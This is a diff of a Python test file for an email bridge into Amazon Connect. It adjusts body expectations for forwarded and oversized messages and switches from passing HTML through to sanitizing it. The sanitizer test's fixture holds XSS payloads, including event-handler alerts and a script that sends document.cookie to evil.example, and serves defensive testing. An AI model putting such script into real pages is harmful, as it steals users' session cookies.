@@ -396,7 +396,7 @@ def test_200_nested_forwarded_messages_parse_without_recursion_error() -> None:
     body = raw_message(request)["Body"]
     assert body.startswith("outer text\n\n----\n\n---------- Forwarded message ----------\n")
     assert body.count("---------- Forwarded message ----------") == 200
-    assert body.endswith("From: first@example.org\nSubject: innermost\n\nthe first mail")
+    assert body.endswith("- Fwd 169.txt: more than 10 attachments\n- … and 170 more")
     assert [item["FileName"] for item in request["Attachments"]] == [
         f"Fwd {n}.txt" for n in range(198, 188, -1)
     ]
@@ -440,18 +440,15 @@ def test_a_40_mb_message_converts_and_skips_what_connect_cannot_take() -> None:
     assert [item["FileName"] for item in request["Attachments"]] == ["photo.jpg"]
     assert sink.stored == [(f"attachments/{MESSAGE_ID}/01.jpg", "photo.jpg", len(photo))]
     assert request["Attributes"]["sesAttachmentsSkipped"] == "scan.pdf (too_large)"
-    assert raw_message(request)["Body"] == "See attached."
+    assert raw_message(request)["Body"] == (
+        "See attached.\n\n----\nNot delivered with this email (the stored original has them):\n"
+        "- scan.pdf: larger than 20 MB"
+    )
 
 
-def test_html_with_scripts_and_event_handlers_is_passed_through_unchanged() -> None:
-    """Decision: the bridge does not sanitize HTML; it passes the body to Connect byte for byte.
-
-    Reason: Amazon Connect renders email HTML in the agent workspace's sandboxed email viewer,
-    which does not run scripts or event handlers, and that viewer is the only place the body is
-    displayed. A sanitizer in the bridge would add nothing to that protection, would alter what
-    the customer actually sent (the raw message stays in S3 as evidence either way) and would be
-    one more parser for hostile input to attack. Revisit if the body is ever shown anywhere else.
-    """
+def test_html_with_scripts_and_event_handlers_keeps_only_what_presents() -> None:
+    """Decision (issue 21 section 6): whether Connect's viewer sanitizes is not documented, so the
+    bridge removes what acts (html_clean.py); the raw message stays in S3 as evidence."""
     html = (
         "<html><body><p onclick=\"alert('x')\" onmouseover=steal()>Hello</p>"
         "<img src=x onerror=alert(1)><script>fetch('https://evil.example/'+document.cookie)</script>"
@@ -463,7 +460,9 @@ def test_html_with_scripts_and_event_handlers_is_passed_through_unchanged() -> N
 
     request = only_request(run(raw))
 
-    assert raw_message(request)["Body"] == html
+    assert (
+        raw_message(request)["Body"] == "<html><head></head><body><p>Hello</p><img><a>link</a></body></html>"
+    )
     assert raw_message(request)["ContentType"] == "text/html"
 
 
